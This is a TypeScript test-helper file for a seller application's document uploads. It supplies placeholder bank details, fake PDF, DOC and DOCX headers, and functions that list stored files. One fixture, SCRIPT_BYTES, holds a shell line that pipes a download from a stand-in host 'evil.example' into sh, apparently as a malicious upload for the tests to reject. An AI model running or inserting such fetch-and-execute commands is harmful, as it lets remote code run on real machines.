import type { Kit } from '../../test/kit.ts';
import { applicationPrefix, SELLER_DOCUMENTS_FOLDER } from './storage.ts';

// What only the seller application tests need on top of the kit (server/test/kit.ts, which holds the
// valid application and the call): bank details, document bytes, and the files an application left.

export const bankDetailsWith = (changes: Record<string, string>) =>
  JSON.stringify({
    bankName: 'State Bank of India',
    accountNumber: '30123456789',
    accountHolderName: 'Meera Iyer',
    ifscCode: 'SBIN0001234',
    ...changes,
  });

export const PDF_BYTES = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n', 'latin1');
export const DOC_BYTES = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(504),
]);
/** The start of a zip whose first entry is word/document.xml, as every .docx has. */
export const DOCX_BYTES = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]),
  Buffer.alloc(18),
  Buffer.from([0x11, 0x00, 0x00, 0x00]),
  Buffer.from('word/document.xml', 'latin1'),
  Buffer.alloc(64),
]);
export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n', 'latin1');

/** The documents stored for an application, by name, read through the app's file store. */
export async function storedFiles(t: Kit, applicationId: string): Promise<string[]> {
  let prefix: string;
  try {
    prefix = applicationPrefix(applicationId);
  } catch {
    return [];
  }
  return (await t.app.platform.store.listPrivate(prefix)).map((key) => key.slice(prefix.length)).sort();
}

/** Every application that has documents in the app's file store, by id. */
export async function applicationFolders(t: Kit): Promise<string[]> {
  const keys = await t.app.platform.store.listPrivate(`${SELLER_DOCUMENTS_FOLDER}/`);
  return [...new Set(keys.map((key) => key.split('/')[1] as string))].sort();
}
